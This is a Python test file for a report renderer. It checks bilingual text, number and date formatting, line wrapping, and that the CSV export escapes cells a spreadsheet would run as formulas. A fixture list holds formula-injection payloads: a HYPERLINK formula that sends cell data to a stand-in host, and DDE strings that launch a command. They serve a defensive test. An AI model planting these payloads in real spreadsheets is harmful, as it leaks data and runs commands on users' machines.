"""The engines alone: text that fits, both languages, figures from declared languages."""

from __future__ import annotations

import csv
import datetime as dt

from rendering import text
from rendering.data import Person, Poc, figures, months_between
from rendering.fonts import font
from rendering.layout import wrap
from rendering.report_csv import FORMULA_STARTS, render_csv


def test_both_languages_have_every_string():
    assert set(text.STRINGS["en"]) == set(text.STRINGS["pt-br"])


def test_numbers_and_dates_follow_the_language():
    assert text.number("pt-br", 12345.5, decimals=1) == "12.345,5"
    assert text.number("en", 12345.5, decimals=1) == "12,345.5"
    assert text.date("pt-br", dt.date(2025, 3, 7)) == "7 de março de 2025"
    assert text.date("en", dt.date(2025, 3, 7)) == "7 March 2025"


def test_long_names_wrap_and_end_with_an_ellipsis_and_emoji_are_dropped():
    face = font(50, bold=True)
    name = (
        "Integração 🚀 contínua com verificação automática de acessibilidade em aplicações móveis"
    )
    lines = wrap(name, face, 600, max_lines=2)
    assert len(lines) == 2 and lines[-1].endswith("…")
    assert all(face.getlength(line) <= 600 for line in lines)
    assert "🚀" not in " ".join(lines) and "Integração" in lines[0]
    assert wrap("Supercalifragilisticexpialidocious" * 3, face, 300)[0].endswith("…")


def test_figures_count_each_declared_language_once_per_poc():
    pocs = [
        Poc(id="1", name="a", languages=("Python", "Go", "Python"), started_on=dt.date(2025, 1, 2)),
        Poc(id="2", name="b", languages=("Go",), created_on=dt.date(2025, 2, 2)),
        Poc(id="3", name="c", languages=(), started_on=dt.date(2025, 2, 9)),
    ]
    result = figures(pocs, None, months=months_between(dt.date(2025, 1, 1), dt.date(2025, 3, 31)))
    assert result.by_language == [("Go", 2), ("Python", 1)]
    assert result.by_month == [((2025, 1), 1), ((2025, 2), 2), ((2025, 3), 0)]
    assert result.dojo_count is None and result.dojo_hours is None


HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"abrir")',
    "+55 11 9999-0000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
]


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_kept_as_text(tmp_path):
    pocs = [
        Poc(
            id=str(index),
            name=hostile,
            summary=hostile,
            learnings=hostile,
            tags=(hostile, "ok"),
            languages=(hostile,),
            author=Person(id="p", name=hostile),
            contributors=(Person(id="q", name=hostile),),
            started_on=dt.date(2025, 1, index + 1),
        )
        for index, hostile in enumerate(HOSTILE_CELLS)
    ] + [Poc(id="safe", name="Cache = rápido", tags=("a-b",), started_on=dt.date(2025, 2, 1))]
    output = tmp_path / "report.csv"
    assert render_csv(pocs, "pt-br", output) == len(pocs)

    with output.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))[1:]
    assert len(rows) == len(pocs)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), row
    by_id = {row[0]: row for row in rows}
    for index, hostile in enumerate(HOSTILE_CELLS):
        name, tags, author = by_id[str(index)][1], by_id[str(index)][6], by_id[str(index)][7]
        assert name == "'" + hostile and author == "'" + hostile
        assert tags == "'" + hostile + "; ok"
    assert by_id["safe"][1] == "Cache = rápido" and by_id["safe"][6] == "a-b"  # untouched
